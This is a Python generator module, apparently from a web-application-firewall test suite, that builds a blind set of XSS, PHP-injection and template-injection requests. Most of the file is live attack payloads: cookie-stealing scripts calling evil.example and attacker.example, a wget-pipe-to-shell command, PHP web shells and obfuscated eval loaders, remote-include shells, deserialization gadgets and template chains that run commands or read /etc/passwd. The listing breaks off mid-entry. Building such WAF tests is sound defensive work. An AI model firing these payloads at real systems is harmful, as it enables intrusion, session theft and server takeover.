"""Blind set "twelfth": cross-site scripting, PHP injection and server-side template injection, with benign
requests that carry the same vocabulary (HTML-ish feedback, prose about web development and templates, email
signatures, prices and maths, markdown, and front-end developers pasting HTML/JS/CSS/PHP/template snippets into
Slack).

Written independently for this repository by a helper session from its own general knowledge of each technique
and of real traffic: no rule of this project, no ruleset file or regression test, no public payload list and no
other generator's payload or text list was read while writing it, and nothing in it was changed after the set was
measured against the WAF. Each attack payload goes into three input places (query, form, JSON, cookie, header),
rotating with family_gen_blind_php.three_places, under parameter names of this file's own; ~50 more go into the
URL path, a parameter name, the Referer or User-Agent header, a multipart/form-data filename or field and a JSON
key. Same record schema as family_gen.py; deterministic (no randomness, no clock).
"""

from __future__ import annotations

import base64
import binascii
import json
import urllib.parse
import zlib
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, three_places


def _php_str(s: str) -> str:
    return f's:{len(s.encode())}:"{s}";'


def _php_obj(cls: str, props: list[tuple[str, str]]) -> str:
    """A PHP-serialized object of class `cls` with string properties (lengths computed, as a tool would)."""
    inner = "".join(_php_str(k) + _php_str(v) for k, v in props)
    return f'O:{len(cls)}:"{cls}":{len(props)}:{{{inner}}}'


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def _gz_b64(s: str) -> str:
    """What PHP's gzdeflate + base64_encode give (raw deflate), for eval(gzinflate(base64_decode(...)))."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(co.compress(s.encode()) + co.flush()).decode()


# ---------------------------------------------------------------------------------------------------------------
# XSS
# ---------------------------------------------------------------------------------------------------------------

XSS: dict[str, list[str]] = {
    "html": [
        "<script>alert(1)</script>",
        "<ScRiPt>alert(document.domain)</sCrIpT>",
        "<script src=//evil.example/x.js></script>",
        "<script>fetch('//attacker.example/c?'+document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x OnErRoR=prompt(1)>",
        "<img src=x onerror=\"new Image().src='//a.example/l?c='+document.cookie\">",
        "<body onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
        "</textarea><script>alert(1)</script>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">click me</a>",
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
        "<script\n>alert(1)</script\n>",
        "<img/src/onerror=alert(1)>",
        "<base href=\"//evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<script>window.location='//evil.example/steal?'+document.cookie</script>",
        "\"><script>alert(String.fromCharCode(88,83,83))</script>",
        "</script><script>alert(1)</script>",
    ],
    "attr": [
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "\" autofocus onfocus=alert(1) x=\"",
        "x onerror=alert(1)",
        "\" style=\"animation-name:spin\" onanimationstart=\"alert(1)",
        "\"><img src=x onerror=alert(1)>",
        "'><svg onload=alert(1)>",
        "\" accesskey=\"x\" onclick=\"alert(1)",
        "\"/onpointerenter=alert(1)//",
        "x\" onmouseenter=confirm`1` \"",
        "\" onfocusin=alert(1) tabindex=1 id=x \"",
        "javascript:alert(1)\" x=\"",
        "x\\\" onerror=\\\"alert(1)",
        "\"><input autofocus onfocus=alert(1)>",
        "' ontoggle='alert(1)' open='",
        "\" onbeforeinput=alert(1) contenteditable \"",
        "&quot; onerror=&quot;alert(1)",
        "'\tonmouseover='alert(1)",
        "\"\nonclick=\"alert(1)",
    ],
    "js": [
        "';alert(1);//",
        "\";alert(1);//",
        "'-alert(1)-'",
        "\\';alert(1);//",
        "</script><svg onload=alert(1)>",
        "'};alert(1);{'",
        "${alert(1)}",
        "`;alert(1);`",
        "${fetch(`//x.example/${document.cookie}`)}",
        "\\u0027;alert(1);//",
        "\\x27-alert(1)-\\x27",
        "'+alert(1)+'",
        "\";top['al'+'ert'](1);//",
        "x';window['ev'+'al']('alert(1)');'",
        "'-setTimeout('alert(1)')-'",
        "';self[atob('YWxlcnQ=')](1);//",
        "\";throw onerror=alert,1;//",
        "${constructor.constructor('alert(1)')()}",
    ],
    "url": [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.cookie)",
        "javascript://%0aalert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "javascript:void(document.location='//evil.example/?'+document.cookie)",
        "jav&#x09;ascript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "javascript&colon;alert(1)",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "https://example.com/\"><script>alert(1)</script>",
        "\\x6Aavascript:alert(1)",
    ],
    "css": [
        "<style>@import'//evil.example/x.css';</style>",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<div style=\"width:expression(alert(1))\">",
        "</style><script>alert(1)</script>",
        "<style>input[name=csrf][value^=a]{background:url(//x.example/leak?a)}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "x:expression(alert(document.cookie))",
        "}</style><img src=x onerror=alert(1)><style>{",
        "background:\\75\\72\\6c(javascript:alert(1))",
        "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationend=alert(1)>",
        "color:e\\xpression(alert(1))",
    ],
    "html5": [
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<video src=x onloadstart=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)></select>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<form id=f></form><button form=f formaction=\"javascript:alert(1)\">go</button>",
        "<iframe onload=alert(1)></iframe>",
        "<body onhashchange=alert(1)><a href=#x>x</a>",
        "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
        "<div draggable=true ondragstart=alert(1)>drag me</div>",
        "<video controls onplay=alert(1)><source src=x.mp4></video>",
        "<style onload=alert(1)></style>",
        "<input onblur=alert(1) autofocus><input autofocus>",
        "<img srcset=x onerror=alert(1)>",
        "<div contenteditable onpaste=alert(1)>paste here</div>",
        "<input type=search onsearch=alert(1)>",
    ],
    "svg_mathml": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) />",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>go"
        "</text></a></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
        "<svg><image href=x onerror=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math href=\"javascript:alert(1)\">CLICK</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>",
        "<svg><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">alert(1)</handler></svg>",
        "<svG oNLoAd=confirm(1)>",
        "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48"
        "aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x\"/></svg>",
    ],
    "polyglot": [
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
        "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        "'\">><marquee><img src=x onerror=confirm(1)></marquee>\"></plaintext\\></|\\><plaintext/"
        "onmouseover=prompt(1)>",
        "\"'--></style></script><script>alert(1)</script>",
        "'\"()&%<acx><ScRiPt >alert(1)</ScRiPt>",
        "';alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//--></SCRIPT>\">'>"
        "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
        "-->'\"/></sCript><svG x=\">\" onload=(co\\u006efirm)``>",
        "1'\"><svg/onload=alert(1)>{{7*7}}${7*7}",
        "\"><img src=x id=YWxlcnQoMSk= onerror=eval(atob(this.id))>",
        "</script>\"><svg onload=alert(1)>'-alert(1)-'",
        "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script>"
        "<html \" onmouseover=/*&lt;svg/*/onload=alert()//>",
    ],
    "mxss": [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1"
        "&Tab;onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<xmp><img alt=\"</xmp><img src=x onerror=alert(1)>\">",
        "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
        "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
        "<style><style/><img src=x onerror=alert(1)>",
        "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
    ],
    "encoded": [
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3C;img src=x onerror=alert(1)&#x3E;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\\x3cimg src=x onerror=alert(1)\\x3e",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
        "<img src=x onerror=\\u0061lert(1)>",
        "<script>\\u0061\\u006c\\u0065\\u0072\\u0074(1)</script>",
        "<img src=x onerror=eval('\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29')>",
        "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>",
        "<script>[]['filter']['constructor']('alert(1)')()</script>",
        "<script>top[/al/.source+/ert/.source](1)</script>",
        "<script>alert`1`</script>",
        "<img src=x onerror=import('//evil.example/x.js')>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)//",
        "<img%0Asrc=x%0Aonerror=alert(1)>",
        "<svg%09onload%3Dalert(1)>",
        "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
        "<img src=x onerror=\"javascript:eval(name)\">",
        "<svg onload=eval(atob`YWxlcnQoMSk=`)>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<iframe src=\"data:text/html,%3Cscript%3Ealert(1)%3C/script%3E\"></iframe>",
        "<\u017fcript>alert(1)</\u017fcript>",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    ],
    "legacy": [
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<XML ID=I><X><C><![CDATA[<IMG SRC=\"javas]]><![CDATA[cript:alert('XSS');\">]]></C></X></xml>",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<SCRIPT a=\">\" SRC=\"//evil.example/xss.js\"></SCRIPT>",
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
        "vbscript:msgbox(\"XSS\")",
        "-moz-binding:url(//evil.example/xss.xml#x)",
        "behavior:url(xss.htc)",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<img src=\"`<span title=\"`onerror=alert(1)//\">",
    ],
    "csti": [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)');}}",
        "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
        "{{_c.constructor('alert(1)')()}}",
        "<x ng-click=$event.view.alert(1)>click</x>",
    ],
    "fragment": [
        "<script>",
        "\"><svg/onload=",
        "'\"><svg/onload=prompt(1)>",
        "onerror=alert(1)",
        "<img src=x onerror=",
        "javascript:alert(",
    ],
}

# ---------------------------------------------------------------------------------------------------------------
# PHP injection
# ---------------------------------------------------------------------------------------------------------------

PHP: dict[str, list[str]] = {
    "exec": [
        "<?php system($_GET['cmd']); ?>",
        "system('id');",
        "passthru(\"cat /etc/passwd\");",
        "shell_exec('whoami')",
        "exec(\"wget -qO- http://evil.example/s.sh | sh\");",
        "proc_open('/bin/sh',[0=>['pipe','r'],1=>['pipe','w']],$p);",
        "pcntl_exec('/bin/sh',['-c','id']);",
        "echo `uname -a`;",
        "eval($_POST['code']);",
        "assert(\"system('id')\");",
        "create_function('', 'system(\"id\");')",
        "preg_replace('/.*/e', 'system(\"id\")', 'x');",
        "call_user_func('system', 'id');",
        "array_map('system', ['id']);",
        "register_shutdown_function('system','id');",
        "mb_ereg_replace('.*', 'system(\"id\")', 'x', 'e');",
        "(new ReflectionFunction('system'))->invoke('id');",
        "phpinfo();",
        "die(print_r(scandir('/'),1));",
        "highlight_file('/etc/passwd');",
        "file_put_contents('shell.php', '<?php eval($_REQUEST[0]);');",
        "fwrite(fopen('x.php','w'),'<?php system($_GET[c]);');",
        "echo file_get_contents('../../wp-config.php');",
        "mail('a@b.c','x','y','','-OQueueDirectory=/tmp -X/var/www/html/s.php');",
        "putenv('LD_PRELOAD=/tmp/x.so'); mail('a','b','c');",
        "copy('http://evil.example/s.txt','s.php');",
    ],
    "dynamic": [
        "${system('id')}",
        "{${phpinfo()}}",
        "\"{${system($_GET[1])}}\"",
        "$a='sys'.'tem';$a('id');",
        "${'_GET'}['f'](${'_GET'}['c']);",
        "$_GET['f']($_GET['c']);",
        "$_REQUEST[0]($_REQUEST[1]);",
        "${$_GET['v']} = 'admin';",
        "$$name = $_POST['val'];",
        "extract($_GET);",
        "parse_str($_SERVER['QUERY_STRING']);",
        "('sys'.'tem')('id');",
        "$x = 'ass'.'ert'; $x($_POST['p']);",
        "call_user_func($_GET['cb'], $_GET['arg']);",
        "$cls = $_GET['c']; new $cls($_GET['a']);",
        "$GLOBALS['_GET']['x']($GLOBALS['_GET']['y']);",
        "$_=$_GET;$_[0]($_[1]);",
        "${\"_POST\"}[\"a\"](${\"_POST\"}[\"b\"]);",
    ],
    "superglobal": [
        "$_SERVER['DOCUMENT_ROOT']",
        "$_ENV['DB_PASSWORD']",
        "print_r($_SERVER);",
        "var_dump($_SESSION);",
        "echo $_COOKIE['PHPSESSID'];",
        "$GLOBALS['config']['db_pass']",
        "$_SESSION['is_admin']=1;",
        "getenv('AWS_SECRET_ACCESS_KEY')",
        "var_export($GLOBALS);",
        "$HTTP_RAW_POST_DATA",
        "file_get_contents('php://input')",
        "eval($_SERVER['HTTP_USER_AGENT']);",
    ],
    "include": [
        "php://filter/read=convert.base64-encode/resource=../app/config/parameters.yml",
        "php://filter/convert.iconv.UTF-8.UTF-16LE/resource=index.php",
        "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/.env",
        "php://filter/read=string.toupper|string.rot13/resource=admin.php",
        "php://filter/resource=http://evil.example/shell.txt",
        "pHp://FilTer/convert.base64-encode/resource=wp-config.php",
        "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7/"
        "resource=php://temp",
        "include('php://input');",
        "data://text/plain;base64," + _b64("<?php phpinfo(); ?>"),
        "data:;base64," + _b64("<?php echo 1;"),
        "expect://cat /etc/passwd",
        "phar:///tmp/php1a2b3c/test.phar/x.php",
        "zip://./uploads/doc.zip%23cmd.php",
        "compress.bzip2://../../../../etc/passwd",
        "include($_GET['page'].'.php');",
        "require_once('http://evil.example/r57.txt?');",
        "include_once '/proc/self/environ';",
        "require '../../../../../var/log/apache2/access.log';",
        "include \"data:text/plain,<?php system('id');\";",
        "ssh2.exec://user:pass@127.0.0.1:22/id",
        "https://evil.example/c99.txt%00",
        "/var/www/html/index.php%00.jpg",
        "file_exists('phar://uploads/avatar.jpg/test.txt')",
    ],
    "config": [
        "allow_url_include=On",
        "auto_prepend_file=php://input",
        "-d allow_url_include=1 -d auto_prepend_file=php://input",
        "ini_set('open_basedir', '/');",
        "ini_set('disable_functions','');",
        "php_value auto_prepend_file /tmp/shell.txt",
        "AddType application/x-httpd-php .jpg",
        "SetHandler application/x-httpd-php",
        "php_flag engine on",
        "ini_set(\"display_errors\", 1); error_reporting(E_ALL);",
        "set_include_path('/tmp'); include 'x.php';",
        "<FilesMatch \"\\.png$\">SetHandler application/x-httpd-php</FilesMatch>",
        "%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        "dl('evil.so');",
    ],
    "serialized": [
        _php_obj("stdClass", [("cmd", "id")]),
        'a:2:{i:0;s:6:"system";i:1;s:2:"id";}',
        'O:+4:"User":2:{s:8:"username";s:5:"admin";s:7:"isAdmin";b:1;}',
        'C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}',
        _php_obj("Logger", [("logFile", "/var/www/html/shell.php"), ("data", "<?php system($_GET[0]); ?>")]),
        _php_obj("GuzzleHttp\\Psr7\\FnStream", [("_fn_close", "phpinfo")]),
        _php_obj("Monolog\\Handler\\SyslogUdpHandler", [("socket", "id")]),
        _php_obj("Illuminate\\Broadcasting\\PendingBroadcast", [("events", "system"), ("event", "id")]),
        _b64(_php_obj("User", [("role", "admin")])),
        urllib.parse.quote(_php_obj("stdClass", [("x", "1")]), safe=""),
        "unserialize($_COOKIE['data'])",
        'a:1:{i:0;O:9:"Exception":1:{s:10:"\\0*\\0message";s:3:"pwn";}}',
        'O:8:"Template":1:{s:4:"file";R:1;}',
        _php_obj("Config", [("path", "php://filter/convert.base64-encode/resource=/etc/passwd")]),
    ],
    "upload": [
        "GIF89a;<?php system($_GET['c']); ?>",
        "\xff\xd8\xff\xe0<?php eval($_POST[1]); ?>",
        "shell.php%00.jpg",
        "avatar.php.png",
        "x.pHtMl",
        "shell.phar",
        ".htaccess",
        ".user.ini",
        "backdoor.php;.jpg",
        "s.php::$DATA",
        "../../public/shell.php",
        "filename=\"test.php\"",
        "Content-Type: image/png\n\n<?php passthru($_GET['x']); ?>",
    ],
    "shorttag": [
        "<?=system($_GET[0])?>",
        "<? passthru($_POST['c']) ?>",
        "<?= phpinfo() ?>",
        "<?php\tsystem('id');",
        "<?PhP EcHo ShElL_ExEc('id'); ?>",
        "<% system('id'); %>",
        "<script language=\"php\">system(\"id\");</script>",
        "<?=$_GET[1]($_GET[2]);",
        "<?php/**/system('ls');",
        "<?= include $_GET['f'] ?>",
        "<?=@eval(base64_decode($_REQUEST['z']))?>",
        "<?php __halt_compiler();",
        "?><?php system('id');?>",
        "<?php",
    ],
    "obfuscation": [
        "eval(base64_decode('" + _b64("system('id');") + "'));",
        "eval(gzinflate(base64_decode('" + _gz_b64("system($_GET['c']);") + "')));",
        "eval(str_rot13('flfgrz(\"vq\");'));",
        "$a=strrev('metsys');$a('id');",
        "eval(hex2bin('" + binascii.hexlify(b"system('id');").decode() + "'));",
        "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');",
        "(\"\\x73\\x79\\x73\\x74\\x65\\x6d\")(\"id\");",
        "\"\\163\\171\\163\\164\\145\\155\"('id');",
        "$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`');$_($_POST[_]);",
        "$x=~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\";$x(\"id\");",
        "implode('',['sy','st','em'])('id');",
        "str_replace('x','','sxyxsxtxexm')('id');",
        "base64_decode('c3lzdGVt')('id');",
        "eval(urldecode('%73%79%73%74%65%6d%28%27%69%64%27%29%3b'));",
        "assert(stripslashes($_REQUEST[x]));",
        "preg_replace(\"/x/e\",$_GET['c'],\"x\");",
        "EvAl(BaSe64_DeCoDe($_POST['p']));",
        "eval/**/(  $_POST [ 'x' ] );",
        "eval(\n$_POST\n['x']\n);",
        "$s='as'.'se'.'rt';$s(base64_decode($_POST['q']));",
        "eval(gzuncompress(base64_decode($_COOKIE['d'])));",
    ],
}

# ---------------------------------------------------------------------------------------------------------------
# Server-side template injection
# ---------------------------------------------------------------------------------------------------------------

SSTI: dict[str, list[str]] = {
    "probe": [
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{7*'7'}}",
        "${{7*7}}",
        "[[${7*7}]]",
        "${{<%[%'\"}}%\\.",
    ],
    "jinja2": [
        "{{config.items()}}",
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__['os'].popen('whoami').read() }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
        "{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}",
        "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    ],
    "twig": [
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "{{['id']|filter('system')}}",
        "{{['cat /etc/passwd']|map('passthru')|join}}",
        "{{[0]|reduce('system','id')}}",
        "{{ '/etc/passwd'|file_excerpt(1,30) }}",
        "{{_self}}",
    ],
    "smarty": [
        "{$smarty.version}",
        "{php}echo `id`;{/php}",
        "{system('id')}",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\","
        "self::clearConfig())}",
        "{fetch file='/etc/passwd'}",
    ],
    "freemarker": [
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}",
        "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
        ".toURL().openStream().readAllBytes()?join(\" \")}",
        "${.version}",
    ],
    "velocity": [
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))"
        "$p.waitFor()",
        "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
        "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")",
    ],
    "spel_thymeleaf": [
        "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
        "${T(java.lang.Runtime).getRuntime().exec('calc')}",
        "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id')"
        ".getInputStream())}",
        "[[${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}]]",
        "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    ],
    "erb": [
        "<%= system('id') %>",
        "<%= `ls /` %>",
        "<%= File.open('/etc/passwd').read %>",
        "<%= IO.popen('id').readlines() %>",
        "#{`id`}",
    ],
    "handlebars": [
        "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
        "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
        "{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}"
        "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}"
        "{{/with}}{{/with}}",
        "{{#with this.constructor.constructor \"return process.env\" as |f|}}{{f}}{{/with}}",
    ],
    "mustache": [
        "{{=<% %>=}}<%={{ }}=%>{{7*7}}",
        "{{{constructor.constructor('return process.mainModule.require(\"child_process\").execSync(\"id\")')()}}}",
    ],
    "pug": [
        "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
        "- var x = global.process.mainModule.require('child_process').execSync('id')",
        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\")"
        ".exec('touch /tmp/pwned')}()}",
    ],
    "razor": [
        "@(7*7)",
        "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
        "@{ var p = System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\"); }@p",
    ],
    "gotemplate": [
        "{{.}}",
        "{{printf \"%s\" .Secret}}",
        "{{define \"T1\"}}<script>alert(1)</script>{{end}} {{template \"T1\"}}",
        "{{ .System \"id\" }}",
    ],
    "other_engines": [
        "<%- global.process.mainModule.require('child_process').execSync('id') %>",
        "${self.module.cache.util.os.system(\"id\")}",
        "{% import os %}{{ os.popen(\"id\").read() }}",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    ],
}

FAMILIES: dict[str, dict[str, list[str]]] = {"xss": XSS, "php": PHP, "ssti": SSTI}

PARAMS = ["comment", "message", "title", "search", "redirect_uri", "display_name", "tpl", "lang", "next",
          "callback", "description", "theme", "filename", "subject"]

# ---------------------------------------------------------------------------------------------------------------
# Other places: URL path, parameter name, Referer / User-Agent, multipart, JSON key
# ---------------------------------------------------------------------------------------------------------------

# (category, sub, payload)
PATH_PAYLOADS: list[tuple[str, str, str]] = [
    ("xss", "path", "<script>alert(1)</script>"),
    ("xss", "path", "\"><svg onload=alert(1)>"),
    ("xss", "path", "<img src=x onerror=alert(document.domain)>"),
    ("xss", "path", "javascript:alert(1)"),
    ("php", "path", "<?php phpinfo(); ?>"),
    ("php", "path", "php://filter/convert.base64-encode/resource=index"),
    ("php", "path", "shell.php?cmd=id"),
    ("ssti", "path", "{{7*7}}"),
    ("ssti", "path", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("ssti", "path", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
]

PARAM_NAME_PAYLOADS: list[tuple[str, str, str]] = [
    ("xss", "param_name", "<svg onload=alert(1)>"),
    ("xss", "param_name", "\"><script>alert(1)</script>"),
    ("xss", "param_name", "x onmouseover=alert(1) y"),
    ("php", "param_name", "<?php system('id');?>"),
    ("php", "param_name", "${@phpinfo()}"),
    ("php", "param_name", "allow_url_include"),
    ("ssti", "param_name", "{{7*7}}"),
    ("ssti", "param_name", "{{''.__class__.__mro__}}"),
    ("ssti", "param_name", "<#assign x=\"freemarker.template.utility.Execute\"?new()>"),
]

HEADER_PAYLOADS: list[tuple[str, str, str, str]] = [   # (category, sub, header, payload)
    ("xss", "referer", "Referer", "https://www.example.com/\"><script>alert(1)</script>"),
    ("xss", "referer", "Referer", "javascript:alert(document.cookie)"),
    ("xss", "referer", "Referer", "https://search.example/?q=<img src=x onerror=alert(1)>"),
    ("php", "referer", "Referer", "http://x.example/<?php system($_GET['c']); ?>"),
    ("ssti", "referer", "Referer", "https://x.example/{{7*7}}"),
    ("xss", "user_agent", "User-Agent", "<script>alert('ua')</script>"),
    ("xss", "user_agent", "User-Agent", "Mozilla/5.0 \"><svg/onload=alert(1)>"),
    ("php", "user_agent", "User-Agent", "<?php system('id'); ?>"),
    ("php", "user_agent", "User-Agent", "Mozilla/5.0 <?=`$_GET[x]`?>"),
    ("php", "user_agent", "User-Agent", "}__test|O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:"
                                        "\"JSimplepieFactory\":0:{}s:21:\"\\0\\0\\0disconnectHandlers\";a:1:{}}"),
    ("ssti", "user_agent", "User-Agent", "{{7*'7'}}"),
    ("ssti", "user_agent", "User-Agent", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
]

# (category, sub, field name, filename or None, content type, content)
MULTIPART_PAYLOADS: list[tuple[str, str, str, str | None, str, str]] = [
    ("php", "multipart_filename", "avatar", "shell.php", "image/png", "GIF89a\n<?php system($_GET['c']); ?>"),
    ("php", "multipart_filename", "avatar", "avatar.php.jpg", "image/jpeg", "GIF89a;<?= `id` ?>"),
    ("php", "multipart_filename", "file", "x.phtml", "application/octet-stream", "<?php eval($_POST[1]); ?>"),
    ("php", "multipart_filename", "file", ".htaccess", "text/plain", "AddType application/x-httpd-php .png"),
    ("php", "multipart_filename", "file", "report.php%00.pdf", "application/pdf", "%PDF-1.4 <?php phpinfo(); ?>"),
    ("xss", "multipart_filename", "attachment", "\"><img src=x onerror=alert(1)>.png", "image/png", "\x89PNG"),
    ("xss", "multipart_filename", "attachment", "<svg onload=alert(1)>.svg", "image/svg+xml", "<svg/>"),
    ("ssti", "multipart_filename", "attachment", "{{7*7}}.txt", "text/plain", "hello"),
    ("xss", "multipart_field", "description", None, "", "<script>alert(document.cookie)</script>"),
    ("xss", "multipart_field", "image", None, "",
